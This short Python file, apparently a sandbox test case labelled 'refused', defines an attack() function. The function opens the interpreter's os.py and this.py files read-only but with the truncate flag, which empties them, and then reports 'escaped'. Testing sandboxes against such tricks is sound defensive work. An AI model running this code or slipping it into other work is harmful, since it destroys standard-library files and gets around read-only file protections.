# refused
import os


def attack():
    # Opened for reading alone, and emptied all the same.
    os.close(os.open(os.__file__, os.O_RDONLY | os.O_TRUNC))
    os.close(os.open(os.__file__.replace("os.py", "this.py"), os.O_RDONLY | os.O_TRUNC))
    return "escaped"
